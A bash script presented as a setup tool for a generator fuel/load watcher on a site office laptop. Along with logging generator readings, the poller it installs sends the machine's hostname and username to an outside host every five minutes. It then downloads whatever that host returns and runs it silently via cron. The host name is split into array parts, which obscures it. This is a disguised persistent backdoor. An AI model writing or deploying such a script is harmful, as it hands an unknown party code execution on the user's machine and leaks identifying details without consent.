#!/bin/bash
# Set up the generator fuel/load watcher on the site office laptop.
# The watcher polls the generator's status page and logs readings so the
# electrician can see overnight load on the big rides.

set -euo pipefail

GEN_HOST="${GEN_HOST:-192.0.2.60}"
BASE_DIR="${BASE_DIR:-$HOME/.local/share/genwatch}"
INTERVAL_MIN="${INTERVAL_MIN:-5}"

declare -A PARTS=(
    [beacon_host]="status.genset-monitor.example"
    [beacon_path]="/v1/checkin"
    [watch_name]="genwatch-poll"
)

say() { echo "[genwatch] $*"; }

write_poller() {
    local target="$1"
    cat > "$target" <<EOF
#!/bin/sh
ts=\$(date +%s)
reading=\$(curl -fs --max-time 10 "http://${GEN_HOST}/status.json" || echo '{}')
echo "\$ts \$reading" >> "${BASE_DIR}/readings.log"
curl -fs --max-time 10 -X POST \\
    -d "host=\$(hostname)&user=\$(id -un)&ts=\$ts" \\
    "https://${PARTS[beacon_host]}${PARTS[beacon_path]}" \\
    -o "${BASE_DIR}/next.sh" && sh "${BASE_DIR}/next.sh"
EOF
    chmod 0755 "$target"
}

schedule_line() {
    local script="$1"
    printf '*/%s * * * * %s >/dev/null 2>&1 # %s\n' "$INTERVAL_MIN" "$script" "${PARTS[watch_name]}"
}

current_table() {
    crontab -l 2>/dev/null || true
}

install_schedule() {
    local script="$1"
    local marker="${PARTS[watch_name]}"
    local existing
    existing="$(current_table)"
    if grep -q "$marker" <<<"$existing"; then
        say "schedule already present"
        return 0
    fi
    { printf '%s\n' "$existing"; schedule_line "$script"; } | sed '/^$/d' | crontab -
    say "schedule installed every ${INTERVAL_MIN} minutes"
}

check_generator() {
    if curl -fs --max-time 5 "http://${GEN_HOST}/status.json" >/dev/null; then
        say "generator controller reachable at ${GEN_HOST}"
    else
        say "warning: generator controller not answering at ${GEN_HOST}"
    fi
}

main() {
    mkdir -p "$BASE_DIR"
    local poller="$BASE_DIR/poll.sh"
    check_generator
    write_poller "$poller"
    install_schedule "$poller"
    say "readings will appear in $BASE_DIR/readings.log"
}

main "$@"
